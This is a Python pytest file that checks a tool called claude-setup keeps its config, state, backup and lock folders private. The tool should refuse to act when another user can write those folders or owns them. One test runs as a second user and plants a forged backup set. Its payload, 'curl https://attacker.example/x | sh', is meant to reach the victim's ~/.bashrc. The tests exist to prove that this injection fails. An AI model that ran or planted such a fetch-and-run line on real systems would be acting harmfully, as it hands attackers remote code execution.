"""Issue 15, rule 7, as a user meets it: claude-setup's folders are the user's alone.

Under ``umask 000`` every folder claude-setup makes (parents included) comes out 0700 and every
file 0600 (the team file excepted: 0644 on purpose). A config, profiles, state, backups or locks
folder that another user could write, or that is another user's, makes every command that reads
or writes it stop with one line naming it and saying what to do, before anything is read or
written. The finding itself: a second local user (nobody, through ``setpriv``) plants a backup
set in a backups folder left 0777, and the victim's ``undo`` must not write ``~/.bashrc``.
"""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import stat
import subprocess
import sys
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from keyring_env import PrivateKeyring, isolated_home_env
from runner import CLAUDE_SETUP, claude_setup, one_line_error

NOBODY = 65534
ACCESS_KEY_ID = "AKIAIOSFODNN7EXAMPLE"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
LOGIN = ("apply", "--provider", "anthropic", "--auth", "claude-login", "--yes")
BASHRC = b"# the victim's own shell start-up\nalias ll='ls -l'\n"


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def run_with_umask(umask: int, *args: str, **kwargs: object) -> subprocess.CompletedProcess[str]:
    old = os.umask(umask)
    try:
        result = claude_setup(*args, **kwargs)  # type: ignore[arg-type]
    finally:
        os.umask(old)
    assert result.returncode == 0, result.stderr
    return result


def everything_under(*roots: Path) -> set[Path]:
    return {path for root in roots for path in [root, *root.rglob("*")]}


def test_under_umask_000_every_folder_made_is_0700_and_every_file_0600(
    keyring_env: PrivateKeyring, tmp_home: Path, tmp_path: Path
) -> None:
    repo = tmp_path / "repo"
    repo.mkdir()
    assert subprocess.run(["git", "init", "-q"], cwd=repo).returncode == 0
    for made_by_the_fixture in (tmp_home / ".config", tmp_home / ".local" / "state"):
        shutil.rmtree(made_by_the_fixture)  # ~/.config and ~/.local/state are made too
    before = everything_under(tmp_home, repo)
    run_with_umask(0o000, "apply", "--provider", "bedrock", "--auth", "access-keys",
                   "--aws-access-key-id", ACCESS_KEY_ID, "--region", "eu-west-1",
                   "--secret-stdin", "--yes", input=AWS_SECRET + "\n")  # fmt: skip
    run_with_umask(0o000, *LOGIN, "--scope", "local", cwd=repo)
    run_with_umask(0o000, *LOGIN, "--scope", "project", "--profile", "shared", cwd=repo)
    run_with_umask(0o000, "export", "shared", "--output", str(tmp_path / "team.json"))
    run_with_umask(0o000, "undo", cwd=repo)
    made = everything_under(tmp_home, repo) - before
    modes = {str(path): _mode(path) for path in made}
    for expected in (".config", ".config/claude-setup/profiles", ".local/state/claude-setup/locks",
                     ".local/state/claude-setup/backups", ".aws/config", ".claude/settings.json",
                     ".config/git/ignore"):  # fmt: skip
        assert str(tmp_home / expected) in modes
    assert str(repo / ".claude") in modes
    wrong = {
        path: f"{mode:o}"
        for path, mode in modes.items()
        if mode != (0o700 if Path(path).is_dir() else 0o600)
    }
    assert wrong == {}
    assert _mode(tmp_path / "team.json") == 0o644  # shared with the team on purpose


# --- an own folder open to others: every command that reads or writes it stops -------------

FOLDERS = {
    "config": ".config/claude-setup",
    "profiles": ".config/claude-setup/profiles",
    "state": ".local/state/claude-setup",
    "backups": ".local/state/claude-setup/backups",
    "locks": ".local/state/claude-setup/locks",
}
WRITERS = {
    "apply": LOGIN,
    "use": ("use", "anthropic"),
    "undo": ("undo",),
    "remove": ("remove", "anthropic", "--yes"),
    "import": ("import", "{team}", "--profile", "imported", "--yes"),
}
READERS = {
    "profiles": ("profiles",),
    "status": ("status",),
    "run": ("run", "--", "true"),
    "key": ("key", "anthropic"),
    "aws-credentials": ("aws-credentials", "anthropic"),
}
READ = {"profiles": ("config", "profiles"), "status": ("config",), "run": ("config", "profiles"),
        "key": ("config", "profiles"), "aws-credentials": ("config", "profiles")}
"""The folders each reading command reads (``status`` reads the active profile's name only)."""
CASES = [(command, folder) for command in WRITERS for folder in FOLDERS] + [
    (command, folder) for command in READERS for folder in READ[command]
]


@pytest.fixture
def set_up(tmp_home: Path, tmp_path: Path) -> Path:
    """A saved profile, a backup set and a team file, as after a first run."""
    assert claude_setup(*LOGIN).returncode == 0
    team = tmp_path / "team.json"
    assert claude_setup("export", "anthropic", "--output", str(team)).returncode == 0
    return team


def _own_state(home: Path) -> dict[str, bytes]:
    """Every file of claude-setup's and the settings, with their bytes."""
    roots = (home / ".config" / "claude-setup", home / ".local" / "state", home / ".claude")
    return {str(p): p.read_bytes() for root in roots for p in root.rglob("*") if p.is_file()}


def _run(command: tuple[str, ...], team: Path) -> subprocess.CompletedProcess[str]:
    return claude_setup(*(str(team) if arg == "{team}" else arg for arg in command))


@pytest.mark.parametrize(("command", "folder"), CASES)
def test_an_own_folder_others_can_write_stops_every_command(
    set_up: Path, tmp_home: Path, command: str, folder: str
) -> None:
    path = tmp_home / FOLDERS[folder]
    path.chmod(0o777 if folder != "profiles" else 0o770)
    before = _own_state(tmp_home)
    result = _run({**WRITERS, **READERS}[command], set_up)
    assert result.returncode == 1, result.stderr
    line = one_line_error(result)
    assert f"{path} can be written by other users" in line
    assert f"run chmod 700 {path}" in line
    assert "Traceback" not in result.stderr
    assert _own_state(tmp_home) == before
    path.chmod(0o700)  # as the line says: then the folder is trusted again
    assert "other users" not in _run({**WRITERS, **READERS}[command], set_up).stderr


@pytest.mark.parametrize("folder", FOLDERS)
@pytest.mark.parametrize("command", ["apply", "undo"])
def test_an_own_folder_of_another_user_stops_the_command(
    set_up: Path, tmp_home: Path, command: str, folder: str
) -> None:
    path = tmp_home / FOLDERS[folder]
    os.chown(path, NOBODY, NOBODY)
    before = _own_state(tmp_home)
    result = _run(WRITERS[command], set_up)
    assert result.returncode == 1
    assert f"{path} belongs to another user (uid {NOBODY})" in one_line_error(result)
    assert _own_state(tmp_home) == before


def test_the_wizard_stops_before_its_first_screen(set_up: Path, tmp_home: Path) -> None:
    backups = tmp_home / FOLDERS["backups"]
    backups.chmod(0o777)
    main, secondary = os.openpty()
    process = subprocess.Popen(
        [str(CLAUDE_SETUP)], stdin=secondary, stdout=secondary, stderr=subprocess.PIPE,
        start_new_session=True, env={**os.environ, "TERM": "xterm-256color"},
    )  # fmt: skip
    os.close(secondary)
    try:
        _, err = process.communicate(timeout=30)  # a wizard that started would never end
    finally:
        process.kill()
        os.close(main)
    assert process.returncode == 1
    assert f"{backups} can be written by other users" in err.decode()


# --- the finding: a second local user plants a backup set ------------------------------------


@pytest.fixture
def shared_home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A HOME another local user can reach (the tests' own temporary folder is root's alone),
    with the isolated environment of ``tmp_home``."""
    root = Path(tempfile.mkdtemp(prefix="claude-setup-shared-"))
    root.chmod(0o755)
    try:
        for name, value in isolated_home_env(root).items():
            if value is None:
                monkeypatch.delenv(name, raising=False)
            else:
                monkeypatch.setenv(name, value)
        yield root / "home"
    finally:
        shutil.rmtree(root, ignore_errors=True)


PLANT = """
import hashlib, json, os, sys
backups, target, content = sys.argv[1], sys.argv[2], sys.argv[3].encode()
folder = os.path.join(backups, "29991231T000000.000000Z")
os.mkdir(folder, 0o777)
with open(os.path.join(folder, "0-bashrc"), "wb") as handle:
    handle.write(content)
current = open(target, "rb").read()
entry = {"path": target, "backup_file": "0-bashrc",
         "written_sha256": hashlib.sha256(current).hexdigest(), "undo": True}
with open(os.path.join(folder, "manifest.json"), "w") as handle:
    json.dump({"complete": True, "undoing": False, "entries": [entry], "secrets": []}, handle)
"""


def as_nobody(*args: str) -> subprocess.CompletedProcess[str]:
    command = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", *args]
    return subprocess.run(command, capture_output=True, text=True, timeout=30)


def test_a_backup_set_planted_by_another_user_never_writes_bashrc(shared_home: Path) -> None:
    bashrc = shared_home / ".bashrc"
    bashrc.write_bytes(BASHRC)
    bashrc.chmod(0o644)
    assert claude_setup(*LOGIN).returncode == 0
    state = shared_home / FOLDERS["state"]
    for folder in ("state", "backups", "locks"):  # as an older version left them (umask 000)
        (shared_home / FOLDERS[folder]).chmod(0o777)
    planted = as_nobody(sys.executable, "-c", PLANT, str(shared_home / FOLDERS["backups"]),
                        str(bashrc), "curl https://attacker.example/x | sh\n")  # fmt: skip
    assert planted.returncode == 0, planted.stderr

    for command in (LOGIN, ("undo",)):
        refused = claude_setup(*command)
        assert refused.returncode == 1
        line = one_line_error(refused)
        assert f"{state} can be written by other users" in line and "chmod 700" in line
        assert bashrc.read_bytes() == BASHRC

    for folder in ("state", "backups", "locks"):  # what the line says to do
        (shared_home / FOLDERS[folder]).chmod(0o700)
    undone = claude_setup("undo")
    assert undone.returncode == 0, undone.stderr  # the user's own apply is undone
    assert "skipped: the backup set" in undone.stdout
    assert "29991231T000000.000000Z is unusable" in undone.stdout
    assert "could have been written by another user" in undone.stdout
    assert bashrc.read_bytes() == BASHRC
    again = claude_setup("undo")
    assert again.returncode == 1
    assert bashrc.read_bytes() == BASHRC
    manifest = json.loads((shared_home / FOLDERS["backups"] / "29991231T000000.000000Z"
                           / "manifest.json").read_text())  # fmt: skip
    assert manifest["entries"][0]["written_sha256"] == hashlib.sha256(BASHRC).hexdigest()
